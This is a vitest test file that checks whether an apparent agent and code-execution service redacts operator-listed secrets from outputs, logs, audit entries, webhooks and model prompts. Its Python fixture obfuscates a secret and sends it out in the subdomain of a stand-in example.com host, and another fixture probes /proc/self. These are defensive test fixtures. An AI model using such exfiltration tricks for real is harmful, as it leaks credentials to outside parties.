import { writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, expect, test } from 'vitest'
import { ScriptedEndpoint } from '../../agent/test/fixtures/scripted-endpoint.ts'
import { command, scratchFolder, start } from './fixtures/command.ts'
import type { AnswerBody } from './service/fixtures/answer-body.ts'

const { folder } = scratchFolder()
const PASSWORD = 'a password of the admin'
const SECRET = 'q7live-4f9akx71-hwerty2z'
const OTHER = 'пароль-Zx81Qk'
const NAME = 'tok_8vQx2mLr5tYw'
const MARK = '[redacted:known-secret]'
const listed = join(folder, 'known-secrets')
writeFileSync(listed, `${SECRET}\r\n\n${OTHER}\n${NAME}\n`)

/** Fails where a text holds ten letters of a secret in a usual form: base64 shares a few with its neighbours. */
function expectHidden(secret: string, text: string): void {
  const [bytes, turned] = [Buffer.from(secret), [...secret].reverse().join('')]
  for (const form of [secret, turned, bytes.toString('base64'), bytes.toString('hex')])
    for (let at = 0; at + 10 <= form.length; at++)
      expect(text.includes(form.slice(at, at + 10)), form.slice(at)).toBe(false)
}

/** What came to a receiver of webhooks, which is an API that gives the secret away, too. */
const received: string[] = []
const receiver = createServer(async (request, response) => {
  let body = ''
  for await (const chunk of request) body += chunk
  received.push(body)
  response.setHeader('content-type', 'application/json')
  response.end(JSON.stringify({ key: SECRET, encoded: Buffer.from(SECRET).toString('base64') }))
})
await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
afterAll(() => void receiver.close())
const origin = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}`

async function serving(told: string[]) {
  const running = start(['serve', '--port', '0', '--data-dir', join(folder, 'data')], {
    env: {
      ...{ AGENTCHAT_ADMIN_PASSWORD: PASSWORD, AGENTCHAT_KNOWN_SECRETS_FILE: listed },
      ...{ AGENTCHAT_LOG_LEVEL: 'debug', AGENTCHAT_TOOLS_ALLOW_NET: '127.0.0.1' },
      AGENTCHAT_MODELS_ALLOW_NET: '127.0.0.1',
      // Its log says what is wrong with that, with the path.
      AGENTCHAT_AUDIT_HEAD_FILE: join(folder, 'none', SECRET, 'head'),
    },
  })
  let stdout = ''
  running.child.stdout?.on('data', (text: string) => {
    stdout += text
  })
  await running.printed('listens on')
  const url = /listens on (\S+)/.exec(stdout)?.[1] ?? ''
  let cookie = ''
  const send = async (method: string, path: string, body?: object, headers: Record<string, string> = {}) => {
    const answer = await fetch(`${url}/api/v1/${path}`, {
      ...{ method, headers: { 'content-type': 'application/json', cookie, ...headers } },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    })
    const text = await answer.text()
    told.push(`${method} ${path} ${text}`)
    cookie ||= answer.headers
      .getSetCookie()
      .map((each) => each.split(';', 1)[0])
      .join('; ')
    return { status: answer.status, text, json: () => JSON.parse(text) as AnswerBody }
  }
  await send('POST', 'auth/sign-in', { email: 'admin@localhost.local', password: PASSWORD })
  const close = async () => {
    running.child.kill('SIGTERM')
    return (await running.outcome).stderr
  }
  return { send, close }
}

/** Python that has the secrets without a text in it that is one. */
const pythonText = (secret: string) =>
  `"".join(map(chr, ${JSON.stringify([...secret].map((letter) => (letter.codePointAt(0) ?? 0) + 1))}))`
const HAVE = `
import base64, sys, time, urllib.request
secret, other = ["".join(chr(ord(letter) - 1) for letter in text) for text in (${pythonText(SECRET)}, ${pythonText(OTHER)})]
`
const TELL = `${HAVE}
print("my key is", secret, other)
print(base64.b64encode(("user:" + secret).encode()).decode(), file=sys.stderr)
for part in (secret[:7], secret[7:15], secret[15:] + "\\n"):
    sys.stdout.write(part)
    sys.stdout.flush()
    time.sleep(0.05)
try:
    urllib.request.urlopen(f"http://{secret}.example.com/", timeout=5)
except OSError:
    pass
[secret, {other: secret[::-1]}]`

test('what the operator lists in a file is in nothing that the service tells, and not in its log', async () => {
  const told: string[] = []
  const { send, close } = await serving(told)
  const ran = (await send('POST', 'executions', { code: TELL })).json()
  expect(ran.result).toMatchObject({ error: null, result: [MARK, { [MARK]: MARK }] })
  expect(ran.result.stdout).toBe(`my key is ${MARK} ${MARK}\n${MARK}\n`)
  expect(ran.result.stderr).toContain(MARK)
  expect(ran.result.redactions['known-secret']).toBeGreaterThanOrEqual(7)
  expect(JSON.stringify(ran.result.permissions)).toContain(`${MARK}.example.com`)

  // As it streams, where each part is told as it comes.
  const streamed = await send('POST', 'executions', { code: TELL }, { accept: 'text/event-stream' })
  expect(streamed.text).toContain(MARK)
  const failed = (await send('POST', 'executions', { code: `${HAVE}\nraise ValueError(secret)` })).json()
  expect(failed.result.error).toMatchObject({ name: 'ValueError', message: MARK })
  const stricter = { code: TELL, redaction: 'known+patterns' }
  expect((await send('POST', 'executions', stricter)).json().result.stdout).toContain(MARK)
  // Beside a secret of its own, of which this one is a part.
  const own = { OWN: { value: `${SECRET}-and-more`, hosts: ['api.example.com'] } }
  const both = (await send('POST', 'executions', { code: TELL, secrets: own })).json()
  expect(both.result.stdout).toBe(`my key is ${MARK} ${MARK}\n${MARK}\n`)

  const session = (await send('POST', 'sessions', {})).json()
  const inSession = await send('POST', `sessions/${session.id}/executions`, { code: TELL })
  expect(inSession.json().result.stdout).toContain(MARK)
  const batch = (await send('POST', 'batches', { programs: [TELL, '1'] })).json()
  const [first] = (await send('GET', `batches/${batch.id}/results`)).json().items
  expect(first?.result.stdout).toContain(MARK)

  const python = { code: `${HAVE}\ndef main() -> str:\n    print(secret)\n    return secret\n` }
  const tool = (await send('POST', 'tools', { name: 'tells', kind: 'python', definition: python })).json()
  const executed = (await send('POST', `tools/${tool.id}/execute`, {})).json()
  expect(executed.execution.result).toMatchObject({ result: MARK, stdout: `${MARK}\n` })
  const document = {
    ...{ openapi: '3.1.0', info: { title: 'Keys', version: '1' }, servers: [{ url: origin }] },
    paths: { '/key': { get: { operationId: 'key', responses: { 200: { description: 'ok' } } } } },
  }
  const api = (
    await send('POST', 'tools', { name: 'keys', kind: 'openapi', definition: { document } })
  ).json()
  const asked = (await send('POST', `tools/${api.id}/execute`, { operation: 'key', arguments: {} })).json()
  expect(asked.answer).toMatchObject({ status: 200, body: { key: MARK } })

  received.length = 0
  const webhook = { url: `${origin}/hook`, secret: `whsec_${Buffer.alloc(32, 9).toString('base64')}` }
  await send('POST', 'executions', { code: TELL, webhook }, { prefer: 'respond-async' })
  await expect.poll(() => received.length).toBe(1)

  // What somebody calls a thing is told back to him, and is not in the audit.
  const named = await send('POST', 'api-keys', { name: SECRET, scopes: ['execute'] })
  expect(named.status).toBe(201)
  told.pop()
  const audit = (await send('GET', 'audit?action=api-key.create')).json()
  expect(audit.items[0]?.detail).toMatchObject({ name: MARK })
  for (const path of ['executions', 'audit', 'audit/export?format=jsonl', 'anomalies', 'sessions', 'tools'])
    expect((await send('GET', path)).status, path).toBe(200)
  for (const { id } of (await send('GET', 'executions')).json().items)
    expect((await send('GET', `executions/${id}`)).status).toBe(200)

  const log = await close()
  expect(log).toContain('request.answered')
  expect(log).toContain(`/none/${MARK}/head`)
  for (const secret of [SECRET, OTHER]) expectHidden(secret, [...told, ...received, log].join('\n'))
})

test('what somebody names so is in no entry of the audit, no line of the log, and not sent to a model', async () => {
  const { send, close } = await serving([])
  await using endpoint = await ScriptedEndpoint.start()
  const made = async (path: string, body: object, headers = {}) => {
    const { status, text, json } = await send('POST', path, body, headers)
    expect(status, text).toBeLessThan(300)
    return json()
  }
  const python = { code: `def main() -> str:\n    return "${SECRET}"\n` }
  const tool = { name: NAME, description: `Asks ${SECRET}`, kind: 'python', definition: python }
  const { id } = await made('tools', tool, { 'x-request-id': SECRET })
  await made(`tools/${id}/execute`, {})
  const session = await made('sessions', { name: SECRET })
  for (const [method, path] of [
    ['PUT', `sessions/${session.id}/files/${SECRET}.txt`],
    ['DELETE', `sessions/${session.id}/files/${SECRET}.txt`],
    ['GET', `tools/${SECRET}`],
    ['GET', `audit?text=${SECRET}`],
  ] as const)
    await send(method, path, method === 'PUT' ? {} : undefined)
  const ran = await made('executions', {
    code: `open("${SECRET}.txt", "w").write("1")\nopen("/proc/self/${SECRET}")`,
  })
  expect((await send('GET', `executions/${ran.id}/files/${SECRET}.txt`)).status).toBe(200)
  await made('batches', { programs: [`print("${SECRET}")`] })
  await made('models', { name: 'scripted', baseUrl: endpoint.baseUrl, model: SECRET })
  endpoint.says('The answer is 1.')
  const run = await made('agent/runs', { task: `What is ${SECRET}?`, tools: [NAME] })
  expect(run.status).toBe('answered')
  // Who has said so is told it.
  expect([run.task, ran.id === '']).toEqual([`What is ${SECRET}?`, false])
  expect((await send('GET', `executions/${ran.id}`)).text).toContain(SECRET)

  const actions = [
    'tool.create',
    'session.write-file',
    'session.delete-file',
    'agent-run.create',
    'batch.create',
  ]
  // An entry has its place in the log a moment after it was recorded.
  const exported = async () => (await send('GET', 'audit/export?format=jsonl')).text
  for (const action of actions) await expect.poll(exported).toContain(`"action":"${action}"`)
  const audit = await exported()
  const anomalies = (await send('GET', 'anomalies')).text
  const log = await close()
  const asked = JSON.stringify(endpoint.asked.map(({ body }) => body.messages))
  expect(asked).toContain(`What is ${MARK}?`)
  for (const told of [audit, anomalies, log, asked]) expectHidden(SECRET, told)
  for (const told of [audit, anomalies, log]) expectHidden(NAME, told)
})

test('serve refuses a list that cannot be used with a line that tells nothing of it', async () => {
  const path = join(folder, 'wrong')
  writeFileSync(path, `${SECRET}\nhide\n`)
  const refused = (env: Record<string, string>) =>
    command(['serve', '--port', '0', '--data-dir', join(folder, 'never')], { env })
  const short = await refused({ AGENTCHAT_KNOWN_SECRETS_FILE: path })
  expect(short).toMatchObject({ exitCode: 2, stdout: '' })
  expect(short.stderr).toContain(`AGENTCHAT_KNOWN_SECRETS_FILE: "${path}" cannot be used: line 2 must have`)
  expect(short.stderr).not.toMatch(/hide|q7live/)
  const off = await refused({ AGENTCHAT_KNOWN_SECRETS_FILE: listed, AGENTCHAT_REDACTION: 'off' })
  expect(off).toMatchObject({ exitCode: 2, stdout: '' })
  expect(off.stderr).toContain('AGENTCHAT_KNOWN_SECRETS_FILE does not go with AGENTCHAT_REDACTION=off')
})
